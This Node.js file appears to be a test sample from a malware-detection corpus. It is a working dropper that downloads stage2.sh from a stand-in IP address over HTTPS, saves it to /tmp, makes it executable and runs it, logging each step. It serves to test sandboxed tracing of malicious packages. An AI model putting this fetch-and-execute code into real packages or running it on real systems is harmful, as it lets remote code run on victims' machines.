'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// A dropper: downloads https://198.51.100.7/stage2.sh (a bare IP over HTTPS,
// so the TLS handshake carries no SNI) to /tmp/stage2.sh, chmods it 755 and
// executes it directly (no shell: the kernel follows its #! line). Prints
// `net-https-stage2: step N ...` at each step reached; exits 0 whatever
// fails, after 5 s at the latest.
const fs = require('fs');
const https = require('https');
const { execFile } = require('child_process');

const URL = 'https://198.51.100.7/stage2.sh';
const OUT = '/tmp/stage2.sh';
const say = (msg) => console.log(`net-https-stage2: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

function run() {
  execFile(OUT, [], { timeout: 2000 }, (err, stdout) => {
    const status = err ? (err.code ?? err.signal) : 0;
    if (err && typeof err.code === 'string') {
      say(`step 4 exec of ${OUT} failed: ${err.code}`);
    } else {
      say(`step 4 ran ${OUT}: exit ${status}, stdout ${JSON.stringify(String(stdout).slice(0, 120))}`);
    }
    process.exit(0);
  });
}

const req = https.get(URL, { timeout: 2500 }, (res) => {
  say(`step 1 GET ${URL}: status ${res.statusCode}`);
  if (res.statusCode !== 200) { res.resume(); process.exit(0); }
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('error', (e) => { say(`step 1 download failed: ${errText(e)}`); process.exit(0); });
  res.on('end', () => {
    const body = Buffer.concat(chunks);
    fs.writeFileSync(OUT, body);
    say(`step 2 saved ${OUT} (${body.length} bytes)`);
    fs.chmodSync(OUT, 0o755);
    say(`step 3 chmod 755 ${OUT}`);
    run();
  });
});
req.on('error', (e) => { say(`step 1 GET ${URL} failed: ${errText(e)}`); process.exit(0); });
req.on('timeout', () => req.destroy(new Error('timeout')));
